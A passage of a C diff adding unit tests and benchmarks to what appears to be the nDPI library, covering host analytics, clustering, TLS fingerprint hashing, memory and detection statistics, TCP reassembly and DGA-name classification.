+	  assert(fabs(band - ref_band) < 1e-6 * (1 + ref_band));
+	}
+      }
+    }
+
+    /* History: the last window_len intervals, oldest first */
+    hostAddr(&host, 0x0A000001);
+    assert(ndpi_host_analytics_get_series(&ha, &host, ndpi_host_metric_bytes, series, 16) == 4);
+    for(i = 0; i < 4; i++)
+      assert(series[i] == 1000 + (((96 + i) * 7919) % 500));
+
+    ndpi_term_host_analytics(&ha);
+  }
+
+  /* Anomalies: a traffic spike and a scan among steady hosts */
+  memset(&anomalies, 0, sizeof(anomalies));
+  assert(ndpi_init_host_analytics(&ha, 1000, 8, 60, 8) == 0);
+  ndpi_host_analytics_set_anomaly_cb(&ha, hostAnomalyCb, &anomalies);
+  ndpi_host_analytics_tick(&ha, now);
+
+  for(i = 0; i < 40; i++) {
+    for(j = 0; j < 1000; j++) {
+      u_int32_t f;
+
+      hostAddr(&host, 0xC0A80000 + j);
+      ndpi_host_analytics_add_bytes(&ha, &host, (i == 30 && j == 7) ? 1000000 : 10000 + (i % 3) * 100);
+
+      for(f = 0; f < ((i == 30 && j == 9) ? 500 : 5); f++) {
+	hostAddr(&peer, 0x08080800 + f);
+	ndpi_host_analytics_add_flow(&ha, &host, &peer);
+      }
+    }
+
+    now += 60;
+    ndpi_host_analytics_tick(&ha, now);
+
+    if(i == 30) {
+      /* Host 9 has both more flows and more peers */
+      assert(anomalies.num == 3);
+    } else if(i < 30)
+      assert(anomalies.num == 0);
+    else
+      anomalies.num = 0;
+  }
+
+  assert(ha.num_hosts == 1000 && ha.num_dropped_hosts == 0);
+
+  /* Full: new hosts are dropped */
+  hostAddr(&host, 0x01010101);
+  assert(ndpi_host_analytics_add_bytes(&ha, &host, 1) == -1 && ha.num_dropped_hosts == 1);
+
+  /* Idle hosts expire: the survivors are moved and keep their history */
+  for(i = 0; i < 10; i++) {
+    for(j = 0; j < 1000; j += 3) {
+      hostAddr(&host, 0xC0A80000 + j);
+      ndpi_host_analytics_add_bytes(&ha, &host, 5000 + i);
+    }
+
+    now += 60;
+    ndpi_host_analytics_tick(&ha, now);
+  }
+
+  assert(ha.num_hosts == 334 && ha.num_expired_hosts == 666);
+
+  for(j = 0; j < 1000; j++) {
+    int rc;
+
+    hostAddr(&host, 0xC0A80000 + j);
+    rc = ndpi_host_analytics_get_series(&ha, &host, ndpi_host_metric_bytes, series, 8);
+
+    if(j % 3) {
+      assert(rc == -1);
+    } else {
+      assert(rc == 8);
+      for(i = 0; i < 8; i++)
+	assert(series[i] == 5002 + i);
+    }
+  }
+
+  ndpi_term_host_analytics(&ha);
+
+  printf("%s                   OK\n", __FUNCTION__);
+  return 0;
+}
+
+/* *********************************************** */
+
+void hostAnalyticsBenchmark() {
+  ndpi_host_analytics ha;
+  ndpi_ip_addr_t host, peer;
+  u_int32_t i, j, num_hosts = 100000, num_intervals = 20, now = 1000;
+  u_int64_t t0, t1, t_tick = 0, t_add = 0;
+
+  assert(ndpi_init_host_analytics(&ha, num_hosts, 16, 60, 6) == 0);
+  ndpi_host_analytics_tick(&ha, now);
+
+  for(i = 0; i < num_intervals; i++) {
+    t0 = usec_now();
+    for(j = 0; j < num_hosts; j++) {
+      hostAddr(&host, 0x0A000000 + j);
+      hostAddr(&peer, j * 31 + i);
+      ndpi_host_analytics_add_flow(&ha, &host, &peer);
+      ndpi_host_analytics_add_bytes(&ha, &host, 1000 + j % 100);
+    }
+    t1 = usec_now();
+    t_add += t1 - t0;
+
+    now += 60;
+    ndpi_host_analytics_tick(&ha, now);
+    t_tick += usec_now() - t1;
+  }
+
+  printf("%s: %u hosts: %.0f updates/sec, %.1f msec per interval\n", __FUNCTION__, num_hosts,
+	 (double)num_hosts * num_intervals * 2 * 1000000 / (double)(t_add ? t_add : 1),
+	 (double)t_tick / num_intervals / 1000);
+
+  ndpi_term_host_analytics(&ha);
+}
+
+/* *********************************************** */
+
+/* Rows close to one of num_groups prototypes: row i belongs to group i % num_groups */
+static void fillBinMatrix(struct ndpi_bin_matrix *m, u_int16_t num_groups, u_int32_t seed) {
+  struct ndpi_bin b;
+  u_int32_t i, j;
+
+  srand(seed);
+  assert(ndpi_init_bin(&b, ndpi_bin_family32, m->num_bins) == 0);
+
+  for(i = 0; i < m->num_rows; i++) {
+    u_int32_t group = i % num_groups;
+
+    ndpi_reset_bin(&b);
+
+    for(j = 0; j < m->num_bins; j++)
+      ndpi_inc_bin(&b, j, ((j % num_groups) == group ? 1000 : 10) + (rand() % 50));
+
+    assert(ndpi_bin_matrix_set_row(m, i, &b, 1) == 0);
+  }
+
+  ndpi_free_bin(&b);
+}
+
+int binClusteringUnitTest() {
+  struct ndpi_bin_matrix m, centroids;
+  struct ndpi_bin bins[60], bin_centroids[3];
+  u_int16_t *ids, *ids_mt, cluster_of[8], bin_ids[60];
+  u_int32_t i, j;
+
+  /* Normalized rows are the same as ndpi_normalize_bin() */
+  assert(ndpi_init_bin_matrix(&m, 1, 5) == 0 && m.stride == 8);
+  assert(ndpi_init_bin(&bins[0], ndpi_bin_family16, 5) == 0);
+  for(j = 0; j < 5; j++) ndpi_inc_bin(&bins[0], j, 7 * j + 3);
+  assert(ndpi_bin_matrix_set_row(&m, 0, &bins[0], 1) == 0);
+  ndpi_normalize_bin(&bins[0]);
+  for(j = 0; j < 5; j++) assert(ndpi_bin_matrix_row(&m, 0)[j] == ndpi_get_bin_value(&bins[0], j));
+  assert(ndpi_bin_matrix_row(&m, 0)[5] == 0);
+  ndpi_free_bin(&bins[0]), ndpi_free_bin_matrix(&m);
+
+  /* Planted clusters: same result with and without threads */
+  assert(ndpi_init_bin_matrix(&m, 40000, 24) == 0);
+  assert(ndpi_init_bin_matrix(&centroids, 8, 24) == 0);
+  assert((ids = ndpi_calloc(m.num_rows, sizeof(u_int16_t))) && (ids_mt = ndpi_calloc(m.num_rows, sizeof(u_int16_t))));
+  fillBinMatrix(&m, 8, 1);
+
+  assert(ndpi_cluster_bin_matrix(&m, 8, ids, &centroids, 1234, 1) > 0);
+  assert(ndpi_cluster_bin_matrix(&m, 8, ids_mt, NULL, 1234, 4) > 0);
+  assert(memcmp(ids, ids_mt, m.num_rows * sizeof(u_int16_t)) == 0);
+
+  for(i = 0; i < 8; i++) cluster_of[i] = ids[i];
+  for(i = 0; i < m.num_rows; i++) assert(ids[i] == cluster_of[i % 8]);
+  for(i = 0; i < 8; i++)
+    for(j = i + 1; j < 8; j++) assert(cluster_of[i] != cluster_of[j]);
+
+  /* The centroid of a group peaks on the bins of its prototype */
+  for(i = 0; i < 8; i++) {
+    const float *c = ndpi_bin_matrix_row(&centroids, cluster_of[i]);
+
+    for(j = 0; j < 24; j++) assert((c[j] > 10) == ((j % 8) == i));
+  }
+
+  ndpi_free(ids), ndpi_free(ids_mt);
+  ndpi_free_bin_matrix(&m), ndpi_free_bin_matrix(&centroids);
+
+  /* ndpi_cluster_bins() */
+  srand(2);
+  for(i = 0; i < 60; i++) {
+    assert(ndpi_init_bin(&bins[i], ndpi_bin_family8, 16) == 0);
+    for(j = 0; j < 16; j++) ndpi_inc_bin(&bins[i], j, ((j % 3) == (i % 3) ? 200 : 5) + (rand() % 10));
+    ndpi_normalize_bin(&bins[i]);
+  }
+
+  for(i = 0; i < 3; i++) assert(ndpi_init_bin(&bin_centroids[i], ndpi_bin_family32, 16) == 0);
+
+  assert(ndpi_cluster_bins(bins, 60, 3, bin_ids, bin_centroids) == 0);
+
+  for(i = 0; i < 60; i++) {
+    assert(bin_ids[i] == bin_ids[i % 3]);
+    assert(ndpi_bin_similarity(&bins[i], &bin_centroids[bin_ids[i]], 0) < ndpi_bin_similarity(&bins[i], &bin_centroids[bin_ids[(i + 1) % 3]], 0));
+  }
+
+  for(i = 0; i < 60; i++) ndpi_free_bin(&bins[i]);
+  for(i = 0; i < 3; i++) ndpi_free_bin(&bin_centroids[i]);
+
+  printf("%s                   OK\n", __FUNCTION__);
+  return 0;
+}
+
+/* *********************************************** */
+
+void binClusteringBenchmark() {
+  struct ndpi_bin_matrix m;
+  u_int16_t *ids;
+  u_int64_t t0, t1, t2;
+  int it1, it4;
+
+  assert(ndpi_init_bin_matrix(&m, 100000, 32) == 0);
+  assert((ids = ndpi_calloc(m.num_rows, sizeof(u_int16_t))) != NULL);
+  fillBinMatrix(&m, 16, 3);
+
+  t0 = usec_now();
+  it1 = ndpi_cluster_bin_matrix(&m, 24, ids, NULL, 42, 1);
+  t1 = usec_now();
+  it4 = ndpi_cluster_bin_matrix(&m, 24, ids, NULL, 42, 4);
+  t2 = usec_now();
+
+  printf("%s: %u bins x 32, 24 clusters: %.1f msec (%d iterations), 4 threads %.1f msec (%d iterations)\n",
+	 __FUNCTION__, m.num_rows, (double)(t1 - t0) / 1000, it1, (double)(t2 - t1) / 1000, it4);
+
+  ndpi_free(ids), ndpi_free_bin_matrix(&m);
+}
+
+/* *********************************************** */
+
+static void fingerprintHex(const char *str, char hex[33]) {
+  ndpi_MD5_CTX ctx;
+  u_int8_t digest[16];
+  int i;
+
+  ndpi_MD5Init(&ctx);
+  ndpi_MD5Update(&ctx, (const unsigned char *)str, strlen(str));
+  ndpi_MD5Final(digest, &ctx);
+
+  for(i = 0; i < 16; i++)
+    sprintf(&hex[i*2], "%02x", digest[i]);
+}
+
+/* Random JA3 like fingerprint, built as tls.c did with snprintf() and streamed */
+static int fingerprintCompare(u_int32_t *seed, u_int8_t server) {
+  u_int16_t lists[3][300], num[3];
+  char fields[3][256], ref[1024], hex_ref[33], hex[33];
+  const char *f[3] = { fields[0], fields[1], fields[2] };
+  ndpi_MD5_CTX ctx, tail_ctx;
+  struct ndpi_fingerprint fp;
+  u_int8_t digest[16];
+  int i, l, rc, len;
+
+  for(l = 0; l < 3; l++) {
+    num[l] = (*seed = *seed * 1103515245 + 12345) % 300;
+    for(i = 0; i < num[l]; i++)
+      lists[l][i] = (*seed = *seed * 1103515245 + 12345) >> 16;
+
+    len = (*seed = *seed * 1103515245 + 12345) % 256;
+    for(i = 0; i < len; i++) fields[l][i] = 'a' + (i % 26);
+    fields[l][len] = '\0';
+  }
+
+  len = snprintf(ref, sizeof(ref), "%u,", 771);
+  ndpi_fingerprint_init(&fp, &ctx, &tail_ctx, sizeof(ref)-1);
+  ndpi_fingerprint_append_u16(&fp, '\0', 771);
+  ndpi_fingerprint_append(&fp, ",", 1);
+
+  for(l = 0; l < 3; l++) {
+    if(l > 0) {
+      if(len < (int)sizeof(ref)) {
+	rc = snprintf(&ref[len], sizeof(ref)-len, ",");
+	if((rc > 0) && (len + rc < (int)sizeof(ref))) len += rc;
+      }
+      ndpi_fingerprint_append(&fp, ",", 1);
+    }
+
+    for(i = 0; i < num[l]; i++) {
+      if(server && (l < 2)) {
+	/* Truncated, nothing accounted afterwards */
+	if(len >= (int)sizeof(ref)) break;
+	rc = snprintf(&ref[len], sizeof(ref)-len, "%s%u", (i > 0) ? "-" : "", lists[l][i]);
+	len += rc;
+
+	if(ndpi_fingerprint_append_u16(&fp, (i > 0) ? '-' : '\0', lists[l][i]) != 0) {
+	  ndpi_fingerprint_seal(&fp);
+	  break;
+	}
+      } else {
+	if(len >= (int)sizeof(ref)) break;
+	rc = snprintf(&ref[len], sizeof(ref)-len, "%s%u", (i > 0) ? "-" : "", lists[l][i]);
+	if((rc > 0) && (len + rc < (int)sizeof(ref))) len += rc;
+
+	if(ndpi_fingerprint_append_u16(&fp, (i > 0) ? '-' : '\0', lists[l][i]) != 0)
+	  break;
+      }
+    }
+  }
+
+  if(len < (int)sizeof(ref)) {
+    rc = snprintf(&ref[len], sizeof(ref)-len, ",%s,%s,%s", fields[0], fields[1], fields[2]);
+    if((rc > 0) && (len + rc < (int)sizeof(ref))) len += rc;
+  }
+  ndpi_fingerprint_append_fields(&fp, ',', f, 3);
+
+  fingerprintHex(ref, hex_ref);
+  ndpi_fingerprint_final(&fp, digest, hex, 0);
+
+  return(strcmp(hex, hex_ref) == 0 ? 0 : -1);
+}
+
+int fingerprintUnitTest() {
+  u_int32_t seed = 1;
+  int i;
+
+  for(i = 0; i < 4000; i++) {
+    if(fingerprintCompare(&seed, i & 1) != 0) {
+      printf("%s: mismatch at iteration %d\n", __FUNCTION__, i);
+      return(-1);
+    }
+  }
+
+  printf("%s                     OK\n", __FUNCTION__);
+  return(0);
+}
+
+/* *********************************************** */
+
+int memoryBudgetUnitTest() {
+  struct ndpi_mem_stats before, stats;
+  struct ndpi_flow_struct *flow;
+  size_t size = SIZEOF_FLOW_STRUCT + 64;
+
+  ndpi_get_memory_stats(&before);
+
+  /* The size asked for is charged, and given back by either free function */
+  flow = ndpi_flow_malloc(size);
+  assert(flow != NULL);
+  ndpi_get_memory_stats(&stats);
+  assert(stats.used[NDPI_MEM_FLOW] == before.used[NDPI_MEM_FLOW] + size);
+  ndpi_flow_free(flow);
+  ndpi_get_memory_stats(&stats);
+  assert(stats.used[NDPI_MEM_FLOW] == before.used[NDPI_MEM_FLOW]);
+
+  flow = ndpi_flow_malloc(size);
+  assert(flow != NULL);
+  ndpi_free_flow(flow);
+  ndpi_get_memory_stats(&stats);
+  assert(stats.used[NDPI_MEM_FLOW] == before.used[NDPI_MEM_FLOW]);
+
+  /* The level follows the total both ways */
+  ndpi_set_memory_limits(stats.total + size, stats.total + 2 * size);
+  assert(ndpi_get_memory_level() == NDPI_MEM_LEVEL_OK);
+  flow = ndpi_flow_malloc(size);
+  assert(flow != NULL && ndpi_get_memory_level() == NDPI_MEM_LEVEL_SOFT);
+  ndpi_flow_free(flow);
+  assert(ndpi_get_memory_level() == NDPI_MEM_LEVEL_OK);
+  ndpi_set_memory_limits(0, 0);
+
+  printf("%s                    OK\n", __FUNCTION__);
+  return(0);
+}
+
+/* *********************************************** */
+
+/* IPv4/UDP packet with the given payload */
+static u_int16_t buildUdpPacket(u_int8_t *pkt, u_int32_t saddr, u_int32_t daddr,
+				u_int16_t sport, u_int16_t dport,
+				const u_int8_t *payload, u_int16_t payload_len) {
+  u_int16_t len = 28 + payload_len;
+
+  memset(pkt, 0, 28);
+  pkt[0] = 0x45, pkt[2] = len >> 8, pkt[3] = len & 0xFF, pkt[8] = 64, pkt[9] = IPPROTO_UDP;
+  saddr = htonl(saddr), daddr = htonl(daddr);
+  memcpy(&pkt[12], &saddr, 4), memcpy(&pkt[16], &daddr, 4);
+  pkt[20] = sport >> 8, pkt[21] = sport & 0xFF, pkt[22] = dport >> 8, pkt[23] = dport & 0xFF;
+  pkt[24] = (len - 20) >> 8, pkt[25] = (len - 20) & 0xFF;
+  memcpy(&pkt[28], payload, payload_len);
+
+  return(len);
+}
+
+int detectionStatsUnitTest() {
+  static const u_int8_t dns_query[] = {
+    0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
+    3, 'w', 'w', 'w', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0,
+    0x00, 0x01, 0x00, 0x01
+  };
+  u_int8_t pkt[128], zeros[32] = { 0 }, protocol_was_guessed;
+  struct ndpi_detection_module_struct *ndpi_str = ndpi_init_detection_module(ndpi_no_prefs);
+  struct ndpi_flow_struct *flow;
+  struct ndpi_detection_stats stats;
+  NDPI_PROTOCOL_BITMASK all;
+  ndpi_protocol proto;
+  u_int16_t len;
+
+  assert(ndpi_str != NULL);
+  NDPI_BITMASK_SET_ALL(all);
+  ndpi_set_protocol_detection_bitmask2(ndpi_str, &all);
+  ndpi_finalize_initialization(ndpi_str);
+
+  /* Disabled by default */
+  assert(ndpi_get_detection_stats(ndpi_str, NDPI_PROTOCOL_DNS, &stats) == -1);
+  assert(ndpi_enable_detection_stats(ndpi_str) == 0);
+
+  /* DNS query: detected by the dissector on the first packet */
+  flow = ndpi_flow_malloc(SIZEOF_FLOW_STRUCT);
+  assert(flow != NULL);
+  len = buildUdpPacket(pkt, 0x0A000001, 0x0A000002, 40000, 53, dns_query, sizeof(dns_query));
+  proto = ndpi_detection_process_packet(ndpi_str, flow, pkt, len, 1000, NULL, NULL);
+  assert(proto.master_protocol == NDPI_PROTOCOL_DNS || proto.app_protocol == NDPI_PROTOCOL_DNS);
+  ndpi_detection_giveup(ndpi_str, flow, 1, &protocol_was_guessed); /* Not counted twice */
+  ndpi_free_flow(flow);
+
+  assert(ndpi_get_detection_stats(ndpi_str, NDPI_PROTOCOL_DNS, &stats) == 0);
+  assert(stats.flows[ndpi_detection_by_dpi] == 1 && stats.flows[ndpi_detection_by_giveup] == 0);
+  assert(stats.pkts[0] == 1 && stats.time_ms[0] == 1);
+
+  /* Two packets 5 ms apart, then nothing found */
+  flow = ndpi_flow_malloc(SIZEOF_FLOW_STRUCT);
+  assert(flow != NULL);
+  len = buildUdpPacket(pkt, 0x0A000001, 0x0A000003, 40001, 40002, zeros, sizeof(zeros));
+  ndpi_detection_process_packet(ndpi_str, flow, pkt, len, 1000, NULL, NULL);
+  ndpi_detection_process_packet(ndpi_str, flow, pkt, len, 1005, NULL, NULL);
+  proto = ndpi_detection_giveup(ndpi_str, flow, 1, &protocol_was_guessed);
+  assert(proto.app_protocol == NDPI_PROTOCOL_UNKNOWN && proto.master_protocol == NDPI_PROTOCOL_UNKNOWN);
+  ndpi_detection_giveup(ndpi_str, flow, 1, &protocol_was_guessed);
+  ndpi_free_flow(flow);
+
+  assert(ndpi_get_detection_stats(ndpi_str, NDPI_PROTOCOL_UNKNOWN, &stats) == 0);
+  assert(stats.flows[ndpi_detection_unknown] == 1);
+  assert(stats.pkts[1] == 1 && stats.time_ms[3] == 1); /* 2 packets, 4 <= 5 ms < 8 */
+
+  ndpi_reset_detection_stats(ndpi_str);
+  assert(ndpi_get_detection_stats(ndpi_str, NDPI_PROTOCOL_DNS, &stats) == 0);
+  assert(stats.flows[ndpi_detection_by_dpi] == 0 && stats.pkts[0] == 0);
+  assert(ndpi_get_detection_stats(ndpi_str, NDPI_MAX_SUPPORTED_PROTOCOLS + NDPI_MAX_NUM_CUSTOM_PROTOCOLS, &stats) == -1);
+
+  ndpi_exit_detection_module(ndpi_str);
+
+  printf("%s                  OK\n", __FUNCTION__);
+  return(0);
+}
+
+/* *********************************************** */
+
+int detectionBudgetUnitTest() {
+  static const u_int8_t dns_query[] = {
+    0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
+    3, 'w', 'w', 'w', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0,
+    0x00, 0x01, 0x00, 0x01
+  };
+  u_int8_t pkt[128], zeros[32] = { 0 };
+  struct ndpi_detection_module_struct *ndpi_str = ndpi_init_detection_module(ndpi_no_prefs);
+  struct ndpi_flow_struct *flow = ndpi_flow_malloc(SIZEOF_FLOW_STRUCT);
+  NDPI_PROTOCOL_BITMASK all;
+  u_int16_t len;
+  int i;
+
+  assert(ndpi_str != NULL && flow != NULL);
+  NDPI_BITMASK_SET_ALL(all);
+  ndpi_set_protocol_detection_bitmask2(ndpi_str, &all);
+  ndpi_finalize_initialization(ndpi_str);
+
+  /* Disabled: never exhausted */
+  memset(flow, 0, SIZEOF_FLOW_STRUCT);
+  len = buildUdpPacket(pkt, 0x0A000001, 0x0A000003, 40001, 40002, zeros, sizeof(zeros));
+  for(i = 0; i < 30; i++)
+    ndpi_detection_process_packet(ndpi_str, flow, pkt, len, 1000 + i, NULL, NULL);
+  assert(ndpi_detection_budget_exhausted(ndpi_str, flow) == 0);
+
+  assert(ndpi_set_detection_budget(ndpi_str, 80, 24) == 0);
+
+  /* Nothing learnt yet: the UDP upper bound */
+  memset(flow, 0, SIZEOF_FLOW_STRUCT);
+  for(i = 1; i <= 30; i++) {
+    ndpi_detection_process_packet(ndpi_str, flow, pkt, len, 1000 + i, NULL, NULL);
+    assert(ndpi_detection_budget_exhausted(ndpi_str, flow) == (i >= 24 ? 1 : 0));
+  }
+
+  /* DNS flows on port 53 are detected on their first packet... */
+  for(i = 0; i < 64; i++) {
+    memset(flow, 0, SIZEOF_FLOW_STRUCT);
+    len = buildUdpPacket(pkt, 0x0A000001, 0x0A000002, 40000 + i, 53, dns_query, sizeof(dns_query));
+    ndpi_detection_process_packet(ndpi_str, flow, pkt, len, 1000, NULL, NULL);
+    assert(flow->detected_protocol_stack[0] == NDPI_PROTOCOL_DNS);
+  }
+
+  /* ...so the unknown ones get the minimum budget */
+  memset(flow, 0, SIZEOF_FLOW_STRUCT);
+  len = buildUdpPacket(pkt, 0x0A000001, 0x0A000002, 41000, 53, zeros, sizeof(zeros));
+  for(i = 1; i <= 10; i++) {
+    ndpi_detection_process_packet(ndpi_str, flow, pkt, len, 1000 + i, NULL, NULL);
+    assert(ndpi_detection_budget_exhausted(ndpi_str, flow) == (i >= 8 ? 1 : 0));
+  }
+
+  ndpi_free_flow(flow);
+  ndpi_exit_detection_module(ndpi_str);
+
+  printf("%s                 OK\n", __FUNCTION__);
+  return(0);
+}
+
+/* *********************************************** */
+
+static int tcpReassemblyAppend(struct ndpi_flow_struct *flow, message_t *msg, struct ndpi_tcphdr *tcph,
+			       u_int8_t dir, u_int32_t seq, const u_int8_t *payload, u_int16_t len, u_int max_len) {
+  tcph->seq = htonl(seq);
+  flow->packet.tcp = tcph, flow->packet.packet_direction = dir;
+  flow->packet.payload = payload, flow->packet.payload_packet_len = len;
+
+  return(ndpi_tcp_reassembly_append(flow, msg, max_len));
+}
+
+int tcpReassemblyUnitTest() {
+  struct ndpi_flow_struct *flow = ndpi_flow_malloc(SIZEOF_FLOW_STRUCT);
+  struct ndpi_tcphdr tcph;
+  message_t msg;
+  u_int8_t data[4096];
+  u_int i;
+
+  assert(flow != NULL);
+  memset(&tcph, 0, sizeof(tcph));
+  memset(&msg, 0, sizeof(msg));
+  for(i = 0; i < sizeof(data); i++) data[i] = i & 0xFF;
+
+  /* In order in both directions, whatever the first sequence number */
+  assert(tcpReassemblyAppend(flow, &msg, &tcph, 0, 1000, data, 100, 8192) == 1);
+  assert(tcpReassemblyAppend(flow, &msg, &tcph, 1, 5000, &data[100], 50, 8192) == 1);
+  assert(tcpReassemblyAppend(flow, &msg, &tcph, 0, 1100, &data[150], 100, 8192) == 1);
+  assert(msg.buffer_used == 250 && memcmp(msg.buffer, data, 250) == 0);
+  assert(flow->mem_buffer == NDPI_TCP_REASSEMBLY_BUF_LEN);
+
+  /* Retransmitted and out of order segments are skipped */
+  assert(tcpReassemblyAppend(flow, &msg, &tcph, 0, 1100, &data[150], 100, 8192) == 0);
+  assert(tcpReassemblyAppend(flow, &msg, &tcph, 0, 1300, &data[250], 100, 8192) == 0);
+  assert(tcpReassemblyAppend(flow, &msg, &tcph, 1, 5050, &data[250], 0, 8192) == 0);
+  assert(msg.buffer_used == 250);
+
+  /* The buffer grows up to max_len and no further */
+  assert(tcpReassemblyAppend(flow, &msg, &tcph, 0, 1200, &data[250], 2000, 3000) == 1);
+  assert(msg.buffer_used == 2250 && msg.buffer_len == 2250);
+  assert(flow->mem_buffer == 2250 && memcmp(msg.buffer, data, 2250) == 0);
+  assert(tcpReassemblyAppend(flow, &msg, &tcph, 0, 3200, &data[2250], 1000, 3000) == 0);
+  assert(msg.buffer_used == 2250);
+
+  /* Parsed messages are consumed from the head */
+  ndpi_tcp_reassembly_consume(&msg, 250);
+  assert(msg.buffer_used == 2000 && memcmp(msg.buffer, &data[250], 2000) == 0);
+  assert(tcpReassemblyAppend(flow, &msg, &tcph, 0, 3200, &data[2250], 1000, 3000) == 1);
+  assert(msg.buffer_used == 3000 && memcmp(msg.buffer, &data[250], 3000) == 0);
+  ndpi_tcp_reassembly_consume(&msg, 5000);
+  assert(msg.buffer_used == 0);
+
+  /* After a reset any segment is accepted */
+  ndpi_tcp_reassembly_reset(&msg);
+  assert(tcpReassemblyAppend(flow, &msg, &tcph, 0, 1, data, 10, 3000) == 1);
+
+  /* Freeing gives the memory back to the flow */
+  ndpi_tcp_reassembly_free(flow, &msg);
+  assert(msg.buffer == NULL && msg.buffer_used == 0 && flow->mem_buffer == 0);
+
+  /* Small max_len: the initial buffer is capped too */
+  assert(tcpReassemblyAppend(flow, &msg, &tcph, 0, 1, data, 600, 512) == 0);
+  assert(tcpReassemblyAppend(flow, &msg, &tcph, 0, 1, data, 500, 512) == 1);
+  assert(msg.buffer_len == 512 && flow->mem_buffer == 512);
+  ndpi_tcp_reassembly_free(flow, &msg);
+
+  ndpi_free_flow(flow);
+
+  printf("%s                   OK\n", __FUNCTION__);
+  return(0);
+}
+
+/* *********************************************** */
+
+int sharedTablesUnitTest() {
+  static const char *names[] = {
+    "www.confindustriabrescia.it", "zoomam104zc.zoom.us", "www.lbjamwptxz.com",
+    "www.l54c2e21e80ba5471be7a8402cffb98768.so", "qzxvbkjq.net", "mqtt.facebook.com", NULL
+  };
+  struct ndpi_detection_module_struct *a = ndpi_init_detection_module(ndpi_no_prefs);
+  struct ndpi_detection_module_struct *b = ndpi_init_detection_module(ndpi_no_prefs);
+  /* Goes through the shared bigrams automa (the DGA check uses its own bitmaps) */
+  static char text[] = "\x01\x02\x03hello world\x04\x05qzxj\x06";
+  char out[64];
+  struct ndpi_shared_tables *tables;
+  int i, expected[sizeof(names) / sizeof(names[0])], expected_readable;
+
+  assert(a != NULL && b != NULL);
+  ndpi_finalize_initialization(a);
+  ndpi_finalize_initialization(b);
+
+  for(i = 0; names[i] != NULL; i++)
+    expected[i] = ndpi_check_dga_name(b, NULL, (char*)names[i], 1);
+  expected_readable = ndpi_has_human_readeable_string(b, text, sizeof(text) - 1, 3, out, sizeof(out));
+
+  assert((tables = ndpi_get_shared_tables(a)) != NULL);
+  assert(ndpi_get_shared_tables(a) == tables);
+  ndpi_put_shared_tables(tables);
+
+  assert(ndpi_use_shared_tables(b, tables) == 0);
+  assert(ndpi_use_shared_tables(b, tables) == 0);
+
+  /* The tables outlive the module they come from */
+  ndpi_exit_detection_module(a);
+  ndpi_put_shared_tables(tables);
+
+  for(i = 0; names[i] != NULL; i++)
+    assert(ndpi_check_dga_name(b, NULL, (char*)names[i], 1) == expected[i]);
+  assert(ndpi_has_human_readeable_string(b, text, sizeof(text) - 1, 3, out, sizeof(out)) == expected_readable);
+
+  ndpi_exit_detection_module(b);
+
+  printf("%s                    OK\n", __FUNCTION__);
+  return(0);
+}
+
+/* *********************************************** */
+
+int dgaUnitTest() {
+  static const struct {
+    const char *name;
+    u_int8_t is_hostname, dga;
+  } names[] = {
+    { "www.lbjamwptxz.com",           1, 1 },
+    { "bbcbedxhgjmdobdprmen.com",     1, 1 },
+    { "ckaaaaaaaaaaaaaaaaaaaaaaaaaaaa.local.net", 0, 1 },
+    { "a.b.c.d.e.f.example.com",      1, 1 },
+    { "a.b.c.d.e.f.example.com",      0, 0 }, /* Same name, not a hostname */
+    { "www.confindustriabrescia.it",  1, 0 },
+    { "r2---sn-uxaxpu5ap5-2n5e.gvt1.com", 1, 0 },
+    { "mqtt.facebook.com",            1, 0 },
+    { "1.2.3.4.in-addr.arpa",         1, 0 },
+    { "printer.local",                1, 0 },
+    { "abc",                          1, 0 },
+    /* Same ndpi_quick_hash() and length: the second one must not get the first verdict */
+    { "mqjjotwswyHy.com",             1, 0 },
+    { "mqjjotwswxiy.com",             1, 1 },
+    { "zhyldgzwIdi.com",              1, 0 },
+    { "zhyldgzvjdi.com",              1, 1 },
+    { "sqalzmlluIxpeayvwg.com",       1, 0 },
+    { "sqalzmlltjxpeayvwg.com",       1, 1 },
+    { NULL, 0, 0 }
+  };
+  struct ndpi_detection_module_struct *ndpi_str = ndpi_init_detection_module(ndpi_no_prefs);
+  int i, pass;
+
+  assert(ndpi_str != NULL);
+  ndpi_finalize_initialization(ndpi_str);
+
+  /* The second pass is answered by the verdict cache */
+  for(pass = 0; pass < 2; pass++) {
+    for(i = 0; names[i].name != NULL; i++) {
+      if(ndpi_check_dga_name(ndpi_str, NULL, (char*)names[i].name, names[i].is_hostname) != names[i].dga) {
+	printf("%s(): unexpected verdict for %s [is_hostname: %u][pass: %d]\n", __FUNCTION__,
+	       names[i].name, names[i].is_hostname, pass);
+	exit(0);
+      }
+    }
+  }
+
+  ndpi_exit_detection_module(ndpi_str);
+
+  printf("%s                             OK\n", __FUNCTION__);
+  return(0);
+}
+
+/* *********************************************** */
+
+static int hostMatch(struct ndpi_detection_module_struct *ndpi_str, const char *name, u_int16_t *app_proto) {
+  struct ndpi_flow_struct *flow = ndpi_flow_malloc(SIZEOF_FLOW_STRUCT);
+  int rc;
+
+  assert(flow != NULL);
+  memset(flow, 0, SIZEOF_FLOW_STRUCT);
+  rc = ndpi_match_hostname_protocol(ndpi_str, flow, NDPI_PROTOCOL_TLS, (char*)name, strlen(name));
+  if(app_proto) *app_proto = flow->detected_protocol_stack[0];
+  ndpi_free_flow(flow);
+
+  return(rc);
+}
+
+int hostMatchCacheUnitTest() {
+  struct ndpi_detection_module_struct *ndpi_str = ndpi_init_detection_module(ndpi_no_prefs);
+  struct ndpi_host_match_cache_stats stats;
+  u_int16_t app_proto;
+
+  assert(ndpi_str != NULL);
+  ndpi_finalize_initialization(ndpi_str);
+
+  assert(ndpi_get_host_match_cache_stats(ndpi_str, &stats) == 0);
+  assert(stats.num_entries > 0 && stats.hits == 0 && stats.misses == 0);
+
+  /* The second lookup of the same (lowercased) name is a hit, with the same result */
+  assert(hostMatch(ndpi_str, "www.facebook.com", &app_proto) == 1 && app_proto == NDPI_PROTOCOL_FACEBOOK);
+  assert(hostMatch(ndpi_str, "WWW.FaceBook.com", &app_proto) == 1 && app_proto == NDPI_PROTOCOL_FACEBOOK);
+  assert(ndpi_get_host_match_cache_stats(ndpi_str, &stats) == 0);
+  assert(stats.hits == 1 && stats.misses == 1);
+
